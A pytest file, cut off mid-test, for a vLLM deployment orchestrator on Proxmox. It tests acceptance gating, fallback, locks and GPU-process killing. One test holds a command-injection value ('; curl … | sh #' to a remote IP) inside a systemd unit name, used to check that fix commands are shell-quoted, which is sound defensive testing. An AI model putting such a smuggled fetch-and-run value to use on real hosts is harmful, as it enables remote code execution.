"""The decisions of up, restart, down and the fallback, without root and without a test bed: a fake transport at
the very edge (the host session) answers each agent action with a recorded result, and the real plan, executor,
step runners and agent-protocol parsing run above it (as pyinfra tests operations from fixtures).

Each test states the situation (recorded results in) and checks the decision (the agent actions that ran, in
order, with their planned arguments, and the outcome). A last check holds for every test: every remote command
the executor ran is one of the planned steps' commands: the plan is the program."""

from __future__ import annotations

import dataclasses
import json
import os

import pytest

from orchestrator.deploy import ops
from orchestrator.steps import plan as P
from orchestrator.agent.protocol import PROTOCOL
from orchestrator.core.remote import AuditLog, Fleet, Result
from orchestrator.core.report import Progress
from orchestrator.core.spec import Runtime, load_inventory, load_playbook

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
AUDIT = os.path.join(os.environ.get("TMPDIR", "/tmp"), "vpd-decisions-audit-%d.jsonl" % os.getpid())


HEALTHY_K15 = [0.62, 0.41, 0.29, 0.21, 0.16, 0.135, 0.12, 0.105, 0.095, 0.085, 0.075, 0.07, 0.065, 0.06,
               0.055]  # healthy DFlash at k=15: AL 3.55, rate 17.0 %
GUESSED_K15 = [0.10, 0.03, 0.009] + [0.0] * 12  # the field report's guessed config: rate ~1 %, AL ~1.14
CLIFF_K15 = [0.62, 0.40, 0.28, 0.12] + [0.0] * 11  # sliding layers run as full attention: AL 2.42, yet a cliff


def metrics(drafts: int, draft_tokens: int = 0, accepted: int = 0, k: int = 15, curve: list | None = None) -> str:
    """/metrics text with the four spec-decode counters. With a curve (acceptance by position), the counts follow
    it exactly: accepted = drafts * sum(curve), draft tokens = drafts * k."""
    if curve is not None:
        k = len(curve)
        per = [round(drafts * c) for c in curve]
        draft_tokens, accepted = drafts * k, sum(per)
    else:
        per = [max(0, accepted // drafts - i) if drafts else 0 for i in range(k)]
    lines = [f"vllm:spec_decode_num_drafts_total {drafts}", f"vllm:spec_decode_num_draft_tokens_total {draft_tokens}",
             f"vllm:spec_decode_num_accepted_tokens_total {accepted}"]
    lines += [f'vllm:spec_decode_num_accepted_tokens_per_pos_total{{position="{i}"}} {v}' for i, v in enumerate(per)]
    return "\n".join(lines) + "\n"


def probe(after: str, sent: int = 8, rounds: int = 1) -> dict:
    return {"ok": True, "before": metrics(0, curve=[0.0] * 15), "after": after, "sent": sent, "succeeded": sent,
            "errors": [], "rounds": rounds}


class FakeSession:
    """The transport edge: `pct status` on the host, and agent actions in the container, answered from a script.
    The script maps an action to a result dict, a list of them (one per call), or a callable(args) -> dict."""

    def __init__(self, script: dict, host):
        self.script = {k: (list(v) if isinstance(v, list) else v) for k, v in script.items()}
        self.host = host
        self.calls: list[tuple[str, dict]] = []
        self.argvs: list[list[str]] = []
        self.audit = AuditLog(path=AUDIT)

    def run(self, argv, **kw):
        self.argvs.append(list(argv))
        self.calls.append((argv[0] + " " + argv[1], {}))
        out = {"pct status": "status: running\n", "pct list": "VMID       Status     Lock         Name\n"}
        return Result(self.host.name, kw.get("vmid"), list(argv), 0, out.get(" ".join(argv[:2]), "").encode(), b"", 0)

    def agent_session(self, vmid, python):
        """The executor's agent session: here, each request goes through the one-process path (ct below)."""
        from orchestrator import agent

        sess = self

        class Shim:
            def call(self, action, args, **kw):
                return agent.call(sess, vmid, python, action, args, **kw)
        return Shim()

    def ct(self, vmid, argv, stdin=None, timeout=60, label="", on_line=None, audit_argv=None):
        # PYTHON [-I -S] - ACTION ARGS (agent_argv), or PYTHON [-I -S] -c PROGRAM ACTION ARGS (agent.call)
        i = next(j for j, a in enumerate(argv) if a in ("-", "-c"))
        i += argv[i] == "-c"
        action, args = argv[i + 1], json.loads(argv[i + 2])
        self.argvs.append(["pct", "exec", str(vmid), "--keep-env", "0", "--", *argv])
        self.calls.append((action, args))
        if args.get("renew"):
            res = {"locked": True}
        else:
            r = self.script.get(action)
            if isinstance(r, list):
                r = r.pop(0) if len(r) > 1 else r[0]
            res = r(args) if callable(r) else r
            if res is None:
                raise AssertionError(f"the fake agent has no recorded result for {action} {args}")
        line = json.dumps({"result": res, "protocol": PROTOCOL})
        return Result(self.host.name, vmid, argv, 0, line.encode() + b"\n", b"", 0)


@pytest.fixture(autouse=True, scope="module")
def _audit_file():
    yield
    try:
        os.unlink(AUDIT)
    except OSError:
        pass


@pytest.fixture
def world(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    (tmp_path / "hosts.yaml").write_text("hosts:\n  - name: pve1\n    address: 127.77.0.1\n    containers:\n"
                                         "      - vmid: 129\n        gpus: [0, 1, 2, 3]\n")
    inv = load_inventory(str(tmp_path / "hosts.yaml"))
    dflash = load_playbook(os.path.join(REPO, "playbooks", "qwen36-dflash.yaml"), inv)
    return inv, dflash


def healthy_script(pb, **over) -> dict:
    sha = pb.conf.speculative.drafter.sha256
    good = metrics(220, curve=HEALTHY_K15)  # healthy DFlash at k=15: rate 17.0 %, AL 3.55
    s = {
        "lock": {"locked": True}, "unlock": {"unlocked": True},
        "status": {"state": None, "health": None, "models": [], "vllm_processes": []},
        "write_file": {"ok": True, "changed": True, "path": P.drafter_config_path(pb), "before_sha256": "0" * 64,
                       "after_sha256": sha, "backup": P.drafter_config_path(pb) + ".bak-1"},
        "verify": {"sha256": sha, "checks": [{"check": "sha256", "ok": True}], "stack": {"version": "0.34.0"}},
        "stop": {"terminated": [], "killed": [], "leftovers": [], "foreign": [], "fuser": None, "seconds": 0.1},
        "gpus_free": {"verdict": "free", "before": {}, "after": {"0": {"used": 0}}, "seconds": 0.2},
        "port_check": {"listeners": []},
        "launch": {"ok": True, "pid": 4242, "log_path": "/var/lib/vllm-pve-deploy/vllm.log"},
        "wait_ready": {"ready": True, "seconds": 3.0, "aux_layers": [2, 17, 32, 47, 62]},
        "file_sha": {"sha256": sha},
        "acceptance": probe(good),
        "gate_record": {"ok": True, "launch_known": True},
        "note_failure": {"ok": True},
        "plumbing": {"plumbing": {}},  # no facts: the gpu-plumbing check has nothing to compare (test_plumbing.py)
    }
    s.update(over)
    return s


def run_up(world, script, *, restart=False, **opts):
    inv, pb = world
    fleet = Fleet(inv, audit=AuditLog(path=AUDIT))
    sess = FakeSession(script, inv.host("pve1"))
    fleet.session = lambda name: sess
    out = ops.up(fleet, pb, Progress(quiet=True), ops.Options(**opts), restart=restart)
    planned = P.plan_up(pb, write_config=opts.get("write_config", True), clean_gpus=opts.get("clean_gpus"),
                        restart=restart, ask=ops.Options(**opts).ask_before_kill(pb))
    check_plan_is_program(planned, sess)
    return out, [a for a, args in sess.calls if not args.get("renew")], sess


def check_plan_is_program(planned, sess):
    """Every command that ran is a planned step's command (the lock's token/holder and the failure record, which
    only exist at run time, are the sole differences)."""
    def flat(steps):
        for s in steps:
            yield s
            yield from flat(s.sub)
    known = {}
    for s in flat(planned):
        if s.action:
            known.setdefault(s.action, []).append(s.args)
        if s.host_argv:  # a plain host command, or one a step runs beside its agent action (gpu-plumbing)
            known.setdefault(" ".join(s.host_argv[:2]), []).append({})
    volatile = {"token", "holder", "workstation", "pid", "pid_start", "wait_s", "renew", "failure", "break_token",
                "verdict"}
    for action, args in sess.calls:
        if action == "pct list":
            continue  # named in gpus-free's `runs` (who else is given a busy GPU)
        assert action in known, f"{action} ran but is not in the plan"
        trimmed = {k: v for k, v in args.items() if k not in volatile}
        assert any({k: v for k, v in a.items() if k not in volatile} == trimmed for a in known[action]), \
            f"{action} ran with {trimmed}, not as planned"


FULL_UP = ["pct status", "lock", "status", "write_file", "verify", "sh -c", "plumbing", "gpus_free", "port_check", "launch", "wait_ready",
           "file_sha", "acceptance", "gate_record", "unlock"]


def test_up_on_an_empty_container_runs_the_plan_in_order_and_skips_stop(world):
    out, actions, _ = run_up(world, healthy_script(world[1]))
    assert out.ok and out.status == "up", out.error and out.error.render()
    assert actions == FULL_UP  # `stop` skipped: nothing to stop
    assert [r.step for r in out.results] == ["container", "lock", "current", "drafter-config", "verify",
                                             "gpu-plumbing", "gpus-free", "port-free", "launch", "wait-ready", "aux-layers", "drift", "acceptance",
                                             "gate-record"]
    assert out.info["acceptance"]["draft_acceptance_rate"] == pytest.approx(0.17, abs=0.002)


def test_identical_but_unhealthy_deployment_is_restarted(world):
    inv, pb = world
    cur = {"state": {"alive": True, "pid": 7, "argv": P.serve_argv(pb), "playbook": pb.name,
                     "playbook_sha256": pb.sha256}, "drafter_sha256": pb.conf.speculative.drafter.sha256, "health": 503,
           "models": [], "vllm_processes": []}
    out, actions, _ = run_up(world, healthy_script(pb, status=cur))
    assert out.ok and "stop" in actions and actions.index("stop") < actions.index("launch")


def test_a_different_deployment_is_not_replaced_without_yes(world):
    inv, pb = world
    cur = {"state": {"alive": True, "pid": 7, "argv": ["vllm", "serve", "other"], "playbook": "other"},
           "health": 200, "models": ["other"], "vllm_processes": []}
    out, actions, _ = run_up(world, healthy_script(pb, status=cur))
    assert not out.ok and out.error.step == "current"
    assert out.error.state_left == "unchanged: the running deployment was left as it was"
    assert actions == ["pct status", "lock", "status", "unlock"]  # nothing written, nothing stopped
    out, actions, _ = run_up(world, healthy_script(pb, status=cur), yes=True)
    assert out.ok and actions.index("stop") < actions.index("launch")


def test_vllm_processes_deploy_did_not_start_make_stop_run_without_fuser(world):
    inv, pb = world
    cur = {"state": None, "vllm_processes": [{"pid": 99, "comm": "vllm"}]}
    out, actions, sess = run_up(world, healthy_script(pb, status=cur))
    assert out.ok and "stop" in actions
    stop_args = next(a for n, a in sess.calls if n == "stop")
    assert stop_args["clean_gpus"] is False and "only_playbook" not in stop_args


def test_restart_always_stops_and_clean_gpus_reaches_only_the_playbooks_gpus(world):
    out, actions, sess = run_up(world, healthy_script(world[1]), restart=True, clean_gpus=True, yes_kill=True)
    assert out.ok and "stop" in actions and "gpu_read" not in actions  # -y: nothing to ask
    stop_args = next(a for n, a in sess.calls if n == "stop")
    assert stop_args["clean_gpus"] is True and stop_args["gpus"] == [0, 1, 2, 3]


def test_healthy_dflash_at_k15_with_a_17_percent_rate_passes(world):
    """The old gate (30 %) failed this deployment; the rate falls as k grows, AL and the curve do not."""
    out, actions, sess = run_up(world, healthy_script(world[1]))
    assert out.ok and out.status == "up"
    v = out.info["gate"]
    assert v["passed"] and v["figures"]["draft_acceptance_rate"] == pytest.approx(0.17, abs=0.002)
    assert v["figures"]["mean_acceptance_length"] == pytest.approx(3.545, abs=0.01)
    assert v["thresholds"]["min_mean_acceptance_length"] == 2.2 and v["thresholds"]["min_draft_acceptance"] is None
    acc = next(r for r in out.results if r.step == "acceptance")
    # every message: AL, rate (with its interval and counts), the whole curve, the verdict in words
    for text in ("AL 3.55 of 16", "rate 17.0% (95% interval 15.7%-18.3%)", "220 drafts (3300 drafted tokens)",
                 "per position [0.62, 0.41, 0.29", ", 0.05]", "passes (AL 3.55 >= 2.2", "position 0 0.62 >= 0.5",
                 "no cliff", "220 drafts >= 100"):
        assert text in acc.summary, acc.summary
    rec = next(a for n, a in sess.calls if n == "gate_record")
    assert rec["verdict"]["passed"] and rec["verdict"]["rejected_fallback"] is None


def test_the_old_rate_threshold_is_honoured_when_the_playbook_asks_for_it(world):
    inv, pb = world
    pb = dataclasses.replace(pb, data=dict(pb.data, acceptance=dict(pb.data["acceptance"], min_draft_acceptance=0.3)))
    out, _, _ = run_up((inv, pb), healthy_script(pb, acceptance=probe(metrics(220, curve=HEALTHY_K15)),
                                                 status=[{"state": None, "vllm_processes": []}] * 2))
    assert out.status == "fell back" and "min_draft_acceptance 30%" in out.error.message
    assert "the rate falls as k grows" in out.error.message


def test_guessed_config_fails_the_gate_falls_back_under_the_same_lock_and_is_recorded(world):
    inv, pb = world
    low = metrics(700, curve=GUESSED_K15)  # rate ~0.9 %, AL ~1.14: the guessed config of the field report
    mtp = metrics(350, curve=[0.78, 0.58])  # MTP k=2: AL 2.36
    script = healthy_script(pb, acceptance=[probe(low), probe(mtp)],
                            status=[{"state": None, "vllm_processes": []},
                                    {"state": None, "vllm_processes": []}])
    out, actions, sess = run_up(world, script)
    assert not out.ok and out.status == "fell back" and out.error.step == "acceptance"
    assert out.fallback is not None and out.fallback.ok and out.fallback.playbook == "qwen36-mtp"
    msg = out.error.message
    assert "AL 1.14 of 16" in msg and "rate 0.9%" in msg and "position-0 acceptance 0.10 < 0.5" in msg
    assert "mean acceptance length 1.14 < 2.2" in msg and "guessed or stale config" in msg
    # one lock for both; the verdict recorded, the low-acceptance stop, the fallback's own steps (gated, recorded)
    assert actions == FULL_UP[:-1] + ["stop", "status", "verify", "sh -c", "plumbing", "gpus_free", "port_check", "launch",
                                      "wait_ready", "acceptance", "gate_record", "unlock"]
    assert all(a["clean_gpus"] is False for n, a in sess.calls if n == "stop")
    recs = [a for n, a in sess.calls if n == "gate_record"]
    assert recs[0]["playbook"] == "qwen36-dflash" and not recs[0]["verdict"]["passed"]
    assert recs[0]["verdict"]["rejected_fallback"] == "qwen36-mtp"  # kept for deploy status after the fallback
    assert recs[0]["verdict"]["figures"]["mean_acceptance_length"] == pytest.approx(1.14, abs=0.01)
    assert recs[1]["playbook"] == "qwen36-mtp" and recs[1]["verdict"]["passed"]


def test_a_cliff_fails_the_gate_even_with_a_passing_mean_acceptance_length_and_is_named(world):
    inv, pb = world
    cliff = metrics(300, curve=CLIFF_K15)  # AL 2.42 >= 2.2 and position 0 0.62: only the shape shows it
    script = healthy_script(pb, acceptance=[probe(cliff), probe(metrics(350, curve=[0.78, 0.58]))],
                            status=[{"state": None, "vllm_processes": []}] * 2)
    out, _, _ = run_up(world, script)
    assert out.status == "fell back"
    msg = out.error.message
    assert "a cliff: positions 4-14 are all ~0" in msg and "position 3 is 0.12" in msg
    assert "sliding layers run as full attention, or a missing sliding window" in msg
    assert "AL 2.42" in msg and "mean acceptance length" not in msg.split("FAILS")[-1]  # AL itself passed
    assert out.error.fix.startswith("a cliff: check use_sliding_window") or "a cliff" in out.error.fix


def test_too_few_drafts_make_the_probe_longer_and_still_too_few_fail(world):
    inv, pb = world
    step = P.step_acceptance(pb)
    assert step.args["min_drafts"] == 100 and step.args["max_rounds"] == 4 and step.args["rounds"] == 1
    # the agent probed 3 rounds instead of 1 (it stops as soon as the drafts suffice): reported, and judged
    out, _, _ = run_up(world, healthy_script(pb, acceptance=probe(metrics(150, curve=HEALTHY_K15), sent=24,
                                                                  rounds=3)))
    assert out.ok
    acc = next(r for r in out.results if r.step == "acceptance")
    assert "probing 3 rounds instead of 1 (24 requests)" in acc.summary
    # still too few after max_rounds: no verdict on 40 drafts, said so, with what to change
    out, _, _ = run_up(world, healthy_script(pb, acceptance=[probe(metrics(40, curve=HEALTHY_K15), rounds=4),
                                                             probe(metrics(350, curve=[0.78, 0.58]))],
                                             status=[{"state": None, "vllm_processes": []}] * 2))
    assert out.status == "fell back"
    assert "too few drafts to judge: 40 < 100 (acceptance.min_drafts) even after probing 4 rounds" in out.error.message


def test_an_interrupted_up_then_up_gates_the_running_server_instead_of_already_up(world):
    """Ctrl-C or an SSH drop during wait-ready leaves vLLM running with no verdict: the next up measures it."""
    inv, pb = world
    running = {"state": {"alive": True, "pid": 7, "argv": P.serve_argv(pb), "playbook": pb.name,
                         "playbook_sha256": pb.sha256, "started_at": 1.0e9}, "drafter_sha256": pb.conf.speculative.drafter.sha256,
               "health": 200, "models": [pb.conf.serve.served_model_name], "vllm_processes": [], "gate": None}
    out, actions, _ = run_up(world, healthy_script(pb, status=running))
    assert out.ok and out.status == "up" and out.info.get("gated_running")
    assert actions == ["pct status", "lock", "status", "acceptance", "gate_record", "unlock"]  # nothing relaunched
    cur = next(r for r in out.results if r.step == "current")
    assert "no gate verdict for this launch" in cur.summary and "measuring and gating it now" in cur.summary
    # a verdict for an earlier launch does not count either; and a failed gate now acts: stop it, fall back
    old = dict(running, gate={"for_current_launch": False, "at": 1.0e9, "verdict": {"passed": True}})
    script = healthy_script(pb, status=[old, {"state": None, "vllm_processes": []}],
                            acceptance=[probe(metrics(700, curve=GUESSED_K15)), probe(metrics(350, curve=[0.78, 0.58]))])
    out, actions, _ = run_up(world, script)
    assert out.status == "fell back" and out.fallback.ok
    assert actions[:6] == ["pct status", "lock", "status", "acceptance", "gate_record", "stop"]


def test_a_failed_gate_on_an_ungated_server_without_fallback_stops_it_and_records_the_failure(world):
    inv, pb = world
    mtp = pb.fallback
    running = {"state": {"alive": True, "pid": 7, "argv": P.serve_argv(mtp), "playbook": mtp.name,
                         "playbook_sha256": mtp.sha256}, "drafter_sha256": None,
               "health": 200, "models": [mtp.conf.serve.served_model_name], "vllm_processes": [], "gate": None}
    fleet = Fleet(inv, audit=AuditLog(path=AUDIT))
    sess = FakeSession(healthy_script(pb, status=running, acceptance=probe(metrics(300, curve=[0.2, 0.05]))),
                       inv.host("pve1"))
    fleet.session = lambda name: sess
    out = ops.up(fleet, mtp, Progress(quiet=True), ops.Options())
    actions = [a for a, args in sess.calls if not args.get("renew")]
    assert not out.ok and out.error.step == "acceptance" and "position-0 acceptance 0.20 < 0.5" in out.error.message
    assert actions == ["pct status", "lock", "status", "acceptance", "stop", "note_failure", "unlock"]
    check_plan_is_program(P.plan_up(mtp), sess)


def test_already_up_needs_a_passed_verdict_for_the_launch_running_now(world):
    inv, pb = world
    cur = {"state": {"alive": True, "pid": 7, "argv": P.serve_argv(pb), "playbook": pb.name,
                     "playbook_sha256": pb.sha256}, "drafter_sha256": pb.conf.speculative.drafter.sha256, "health": 200,
           "models": [pb.conf.serve.served_model_name], "vllm_processes": [],
           "gate": {"for_current_launch": True, "at": 1.0e9, "verdict": {"passed": True, "figures": {
               "mean_acceptance_length": 3.5, "k": 15, "draft_acceptance_rate": 0.17, "first_position": 0.62,
               "drafts": 220}}}}
    out, actions, _ = run_up(world, healthy_script(pb, status=cur))
    assert out.ok and out.status == "already up"
    assert actions == ["pct status", "lock", "status", "unlock"]
    cur_step = next(r for r in out.results if r.step == "current")
    assert "passed the acceptance gate at" in cur_step.summary and "AL 3.50 of 16, rate 17.0%" in cur_step.summary


def test_failure_after_launch_stops_the_server_checks_drift_and_leaves_a_record(world):
    inv, pb = world
    fatal = {"ready": False, "reason": "fatal", "cause": "CUDA out of memory", "line": "torch.OutOfMemoryError",
             "fix": "lower serve.gpu_memory_utilization in PLAYBOOK"}
    out, actions, sess = run_up(world, healthy_script(pb, wait_ready=fatal))
    assert not out.ok and out.error.step == "wait-ready"
    assert actions == FULL_UP[:-4] + ["stop", "file_sha", "file_sha", "note_failure", "unlock"]
    # stop-failed, drift-check (unchanged: the failure stays wait-ready's), read-back, the record
    assert "the failed server had already exited" in out.error.state_left
    assert "read now: sha256 " + pb.conf.speculative.drafter.sha256 + ", the pinned bytes" in out.error.state_left
    note = next(a for n, a in sess.calls if n == "note_failure")
    assert note["failure"]["step"] == "wait-ready"


def test_drift_during_startup_is_the_news_not_its_symptom(world):
    inv, pb = world
    fatal = {"ready": False, "reason": "exited", "exit_code": 1, "log_tail": ["boom"]}
    script = healthy_script(pb, wait_ready=fatal, file_sha={"sha256": "5d208bf4" + "0" * 56})
    out, actions, _ = run_up(world, script)
    assert out.error.step == "drift" and "changed behind our back" in out.error.message
    assert "NOT the pinned bytes" in out.error.state_left


def test_a_held_lock_runs_no_clean_up_and_no_unlock(world):
    inv, pb = world
    held = {"locked": False, "holder": {"holder": "bob@ws2 pid 2", "operation": "up", "since": 0, "expires": 0,
                                        "workstation": "elsewhere", "pid": 2}}
    out, actions, _ = run_up(world, healthy_script(pb, lock=held))
    assert not out.ok and type(out.error).__name__ == "LockHeld"
    assert actions == ["pct status", "lock"]


def test_down_stops_only_this_playbook_proves_free_and_clears_the_failure_record(world):
    inv, pb = world
    fleet = Fleet(inv, audit=AuditLog(path=AUDIT))
    sess = FakeSession(healthy_script(pb), inv.host("pve1"))
    fleet.session = lambda name: sess
    out = ops.down(fleet, pb, Progress(quiet=True), ops.Options())
    assert out.ok and out.status == "down"
    actions = [a for a, args in sess.calls if not args.get("renew")]
    assert actions == ["pct status", "lock", "stop", "gpus_free", "note_failure", "unlock"]
    assert next(a for n, a in sess.calls if n == "stop")["only_playbook"] == pb.name
    check_plan_is_program(P.plan_down(pb), sess)


def test_not_free_gpus_stop_before_launch(world):
    inv, pb = world
    held = {"verdict": "held_inside", "seconds": 60, "busy": [0], "after": {"0": {"used": 30000}},
            "holders": [{"pid": 5, "comm": "python", "cmdline": "python train.py", "devices": ["/dev/nvidia0"]}]}
    out, actions, _ = run_up(world, healthy_script(pb, gpus_free=held))
    assert out.error.step == "gpus-free" and "PID 5 (python: python train.py)" in out.error.message
    assert "launch" not in actions and "stop" not in actions  # nothing launched: nothing to stop after
    assert actions[-2:] == ["note_failure", "unlock"]  # the config was replaced: that is recorded


def test_down_clean_gpus_asks_first_and_a_no_kills_nothing(world):
    inv, pb = world
    holders = {"holders": [{"pid": 5, "comm": "python", "cmdline": "python train.py", "devices": ["/dev/nvidia1"]},
                           {"pid": 6, "comm": "x", "cmdline": "x", "devices": ["/dev/nvidia7"]}]}
    asked = []
    for answer, want in ((False, ["pct status", "lock", "gpu_read", "unlock"]),
                         (True, ["pct status", "lock", "gpu_read", "stop", "gpus_free", "note_failure", "unlock"])):
        fleet = Fleet(inv, audit=AuditLog(path=AUDIT))
        sess = FakeSession(healthy_script(pb, gpu_read=holders), inv.host("pve1"))
        fleet.session = lambda name: sess
        out = ops.down(fleet, pb, Progress(quiet=True),
                       ops.Options(clean_gpus=True, confirm=lambda q: asked.append(q) or answer))
        assert [a for a, args in sess.calls if not args.get("renew")] == want
        assert out.ok is answer
        if not answer:
            assert "not confirmed; nothing was killed" in out.error.message and "pass -y (scripts)" in out.error.fix
        check_plan_is_program(P.plan_down(pb, clean_gpus=True, ask=True), sess)
    assert "PID 5 python: python train.py" in asked[0] and "PID 6" not in asked[0]  # only its own GPUs


def test_one_rule_for_killing_gpu_holders_up_restart_and_down(world):
    """Issue 26 item 18: up/restart --clean-gpus ask like down does (no TTY and no -y: nothing is killed), and
    deploy's own processes (marked `ours` by the agent) are never listed as holders to kill."""
    inv, pb = world
    own = {"pid": 4242, "comm": "vllm", "cmdline": "vllm serve", "devices": ["/dev/nvidia0"], "ours": True}
    other = {"pid": 5, "comm": "python", "cmdline": "python train.py", "devices": ["/dev/nvidia1"]}
    for kw in ({"restart": True}, {"restart": False}):
        out, actions, _ = run_up(world, healthy_script(pb, gpu_read={"holders": [own, other]}), clean_gpus=True,
                                 confirm=lambda q: False, **kw)
        if kw["restart"]:  # an up with nothing running has nothing to stop: no question either
            assert not out.ok and "not confirmed; nothing was killed" in out.error.message
            assert "PID 5 python" in out.error.message and "4242" not in out.error.message
            assert "stop" not in actions and "launch" not in actions
    asked = []
    out, actions, _ = run_up(world, healthy_script(pb, gpu_read={"holders": [own]}), restart=True, clean_gpus=True,
                             confirm=lambda q: asked.append(q) or False)
    assert out.ok and not asked and "stop" in actions  # only deploy's own holder: nothing to ask
    out, actions, _ = run_up(world, healthy_script(pb, gpu_read={"holders": [own, other]}), restart=True,
                             clean_gpus=True, yes_kill=True)
    assert out.ok and "gpu_read" not in actions
    down = ops.Options(clean_gpus=True)
    assert down.ask_before_kill(pb) and not ops.Options(clean_gpus=True, yes=True).ask_before_kill(pb)
    assert not ops.Options(clean_gpus=False).ask_before_kill(pb)


def test_ctrl_c_before_launch_after_the_config_was_replaced_says_so_and_exits_130(world):
    """Issue 26 item 17: Ctrl-C is exit 130, and `state left:` names the drafter config already replaced."""
    from orchestrator.core.errors import EXIT_INTERRUPTED, Interrupted

    inv, pb = world

    def ctrl_c(args):
        raise KeyboardInterrupt

    out, actions, _ = run_up(world, healthy_script(pb, gpus_free=ctrl_c))
    assert not out.ok and out.status == "interrupted" and isinstance(out.error, Interrupted)
    assert out.error.exit_code == EXIT_INTERRUPTED == 130
    assert "interrupted before launch: nothing was started" in out.error.message
    assert "the drafter config " + P.drafter_config_path(pb) + " was replaced with the pinned bytes" in \
        out.error.state_left and ".bak-1" in out.error.state_left
    assert actions[-1] == "unlock"  # the lock is released
    assert "state left:" in out.error.render()


def test_a_failed_up_never_stops_another_playbooks_deployment_that_took_over(world):
    """Issue 26 item 4: the lock was broken and another playbook replaced ours; our failure clean-up must not stop
    it, and says so in `state left:`."""
    inv, pb = world
    refused = {"refused": "this container runs qwen36-mtp (pid 77), not qwen36-dflash", "running": "qwen36-mtp"}
    out, actions, sess = run_up(world, healthy_script(pb, wait_ready={"ready": False, "reason": "exited",
                                                                       "exit_code": None, "seconds": 1.0},
                                                      stop=refused))
    assert not out.ok and out.error.step == "wait-ready"
    assert "exited during startup (its exit status was not recorded" in out.error.message
    stop_args = [a for n, a in sess.calls if n == "stop"]
    assert stop_args and stop_args[-1]["only_playbook"] == "qwen36-dflash"
    assert "the failed server was not stopped: this container runs qwen36-mtp" in out.error.state_left


def test_the_audit_log_never_changes_the_mode_of_a_device(tmp_path):
    """An audit path that is a device (/dev/null, say) is written to, never chmod-ed (it was, once: 0600)."""
    if os.geteuid() != 0:
        pytest.skip("needs root to make a device node")
    dev = tmp_path / "null"
    os.mknod(dev, 0o666 | __import__("stat").S_IFCHR, os.makedev(1, 3))
    os.chmod(dev, 0o666)
    AuditLog(path=str(dev)).write(event="x")
    assert os.stat(dev).st_mode & 0o777 == 0o666
    reg = tmp_path / "audit.jsonl"
    reg.write_text("")
    os.chmod(reg, 0o644)
    AuditLog(path=str(reg)).write(event="x")
    assert os.stat(reg).st_mode & 0o777 == 0o600  # an old world-readable log is still made private


EVIL_UNIT = "vllm-qwen36.service; curl -s http://203.0.113.7/x | sh #"


def test_fix_commands_quote_what_the_container_named(world):
    """Issue 36 item 8: a unit name (or a playbook name) the container sends is one quoted word in every printed
    command a person would paste into a root shell on the Proxmox host."""
    import shlex
    from orchestrator.core.remote import shell_word
    assert shlex.split(shell_word(EVIL_UNIT)) == [EVIL_UNIT]
    script = healthy_script(world[1], launch={"ok": False, "supervisor": "systemd", "unit": EVIL_UNIT,
                                              "message": "start failed"})
    out, _, _ = run_up(world, script)
    assert not out.ok
    fix = out.error.fix
    assert "journalctl -u 'vllm-qwen36.service; curl -s http://203.0.113.7/x | sh #' -n 50" in fix, fix
    words = shlex.split(fix.split("pct exec", 1)[1].split("(deploy logs")[0])
    assert EVIL_UNIT in words  # one word: no `;`, `|` or `#` reaches a shell as syntax


MISMATCH = "Failed to initialize NVML: Driver/library version mismatch\nNVML library version: 550.90"


def test_an_nvml_version_mismatch_is_not_called_a_wedged_driver(world):
    """Issue 41: two driver versions (container user space vs the host's kernel module) get their own fix: compare
    the versions, install the host's exactly, user space only; a reboot only for a host that was upgraded itself.
    A hang keeps the wedged-driver fix."""
    inv, pb = world
    failed = {"verdict": "nvidia_smi_failed", "message": MISMATCH, "timeout_s": 10,
              "command": "nvidia-smi --query-gpu=index,memory.used,memory.total --format=csv,noheader,nounits"}
    out, actions, _ = run_up(world, healthy_script(pb, gpus_free=failed))
    assert out.error.step == "gpus-free" and "Driver/library version mismatch" in out.error.message
    fix = out.error.fix
    assert "wedged" not in fix and "launch" not in actions
    assert "user-space NVIDIA driver in container 129 (libnvidia-ml)" in fix and "kernel module on pve1" in fix
    assert "`cat /proc/driver/nvidia/version` on pve1" in fix and "libnvidia-ml.so.*` in container 129" in fix
    assert "--no-kernel-module" in fix and "reboot pve1 only if the host itself was just upgraded" in fix
    assert fix.endswith("nothing was launched")
    hung = dict(failed, verdict="nvidia_smi_timeout", message="nvidia-smi did not answer within 10s")
    out, _, _ = run_up(world, healthy_script(pb, gpus_free=hung))
    assert out.error.fix.startswith("the NVIDIA driver may be wedged: run nvidia-smi on pve1 itself")


def test_clean_gpus_names_each_process_it_killed_with_its_command_line(world):
    """Issue 41: restart --clean-gpus -y named the holders it killed by PID only; the prompt names each with its
    command line: so does the summary now (whitespace folded, capped; an older agent's bare pids still read)."""
    inv, pb = world
    long_cmd = "python3 hold.py --gpu 0\n--fake-line " + "x" * 400
    fuser = {"devices": ["/dev/nvidia0"], "term": [264, 270], "kill": [270],
             "term_procs": [{"pid": 264, "comm": "python3", "cmdline": "python3 train.py --gpu 0"},
                            {"pid": 270, "comm": "python3", "cmdline": long_cmd}],
             "kill_procs": [{"pid": 270, "comm": "python3", "cmdline": long_cmd}]}
    stop = {"terminated": [], "killed": [], "leftovers": [], "foreign": [], "fuser": fuser, "seconds": 0.1}
    out, _, _ = run_up(world, healthy_script(pb, stop=stop), restart=True, clean_gpus=True, yes_kill=True)
    assert out.ok, out.error
    summary = next(r for r in out.results if r.step == "stop").summary
    assert "fuser -k freed the devices (TERM: PID 264 (python3: python3 train.py --gpu 0), PID 270 (python3: " \
           "python3 hold.py --gpu 0 --fake-line xxx" in summary, summary
    assert "; KILL: PID 270 (python3: python3 hold.py" in summary and "\n" not in summary
    assert "x" * 200 not in summary and "...)" in summary  # capped
    old = dict(stop, fuser={"devices": ["/dev/nvidia0"], "term": [264], "kill": []})
    out, _, _ = run_up(world, healthy_script(pb, stop=old), restart=True, clean_gpus=True, yes_kill=True)
    assert "fuser -k freed the devices (TERM: PID 264; KILL: none)" in \
        next(r for r in out.results if r.step == "stop").summary


def _fake_fleet(world, script):
    inv, _ = world
    fleet = Fleet(inv, audit=AuditLog(path=AUDIT))
    sess = FakeSession(script, inv.host("pve1"))
    fleet.session = lambda name: sess
    return fleet, sess


def test_unlock_is_a_plan_run_by_the_executor(world):
    """Issue 51: deploy unlock runs plan_unlock (lock-holder, then break-lock when confirmed) through ops.execute;
    the holder's token travels on stdin, never in the request."""
    holder = {"holder": "ann@ws pid 7", "operation": "up", "token": "T0K", "since": 1, "expires": 2}
    rt = Runtime("/root/ml-env/bin/python", "/root/ml-env/bin/vllm", "/var/lib/vllm-pve-deploy")  # the defaults
